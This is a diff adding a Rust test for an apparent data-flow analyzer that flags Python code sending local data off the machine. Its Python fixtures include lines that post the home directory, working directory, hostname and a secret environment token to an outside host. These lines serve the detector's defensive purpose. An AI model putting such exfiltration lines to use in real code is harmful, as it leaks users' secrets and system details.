@@ -1327,3 +1327,68 @@ fn requests_to_this_machine_send_nothing_off_it() {
     );
     assert_eq!(fl.endpoints, vec!["10.0.0.5".to_string()]);
 }
+
+/// A named part of a container (`ctx.api_url`, `settings.get("url")`,
+/// `auth.get_headers(cfg)`, a service's other methods) carries the container's data but not
+/// the places it was told to work in: a settings store opened in the working directory does
+/// not put the directory into the URL read out of it. A part named for a place (`ctx.home`,
+/// `get("workspace_root")`), a secret or a host name kept in the container (in Python, where a
+/// returned object has no fields, by every part of it), and the container
+/// sent whole, still flow.
+#[test]
+fn a_named_part_of_a_container_does_not_carry_where_it_was_opened() {
+    let program = |extra: &str, sends: &str| {
+        format!(
+            r#"import os, socket
+import requests
+
+
+def open_settings(cwd):
+    return load_store({{"cwd": cwd, "file": ".acme/settings.json"}})
+
+
+def context():
+    n = open_settings(os.getcwd())
+    s = n.get("url")
+    return Ctx(api_url=s, settings=n, home=os.path.expanduser("~"){extra})
+
+
+def main():
+    k = context()
+{sends}
+"#
+        )
+    };
+    no_flow(&program(
+        "",
+        r#"    requests.post(k.api_url + "/api/threads", json={})
+    key = k.settings.get("apiKey")
+    requests.post("https://api.acme-tools.dev/v1/x", json={"key": key})
+    auth = k.auth.get_auth_headers(k.settings)
+    requests.post("https://api.acme-tools.dev/v1/y", headers=auth, data=k.settings.consume_draft())
+    requests.post("https://api.acme-tools.dev/v1/z", data=k["api_url"])"#,
+    ));
+    let with_identity = r#", host=socket.gethostname(), token=os.environ["ACME_SECRET_TOKEN"]"#;
+    let sent = |sends: &str| one_flow(&program(with_identity, sends)).kinds;
+    let k = sent(r#"    requests.post("https://c6.x.top/a", data=k.home)"#);
+    assert!(k.contains(DataKind::HomeDir), "{k:?}");
+    // (A place inside a named part is lost: `k.settings.get("workspace_root")` reads the
+    // store out of `k` by name first. The price of not tracking a returned object's fields.)
+    let k = sent(
+        r#"    st = open_settings(os.getcwd())
+    requests.post("https://c6.x.top/a", data=st.get("workspace_root"))"#,
+    );
+    assert!(k.contains(DataKind::WorkingDirectory), "{k:?}");
+    let k = sent(r#"    requests.post("https://c6.x.top/a", data=",".join([k.home]).strip())"#);
+    assert!(k.contains(DataKind::HomeDir), "{k:?}");
+    let k = sent(r#"    requests.post("https://c6.x.top/a", data=k.host + k.token)"#);
+    assert!(
+        k.contains(DataKind::Hostname) && k.contains(DataKind::SecretEnv),
+        "{k:?}"
+    );
+    let k = sent(r#"    requests.post("https://c6.x.top/a", data=str(k))"#);
+    assert!(
+        k.contains(DataKind::WorkingDirectory) && k.contains(DataKind::HomeDir),
+        "{k:?}"
+    );
+}
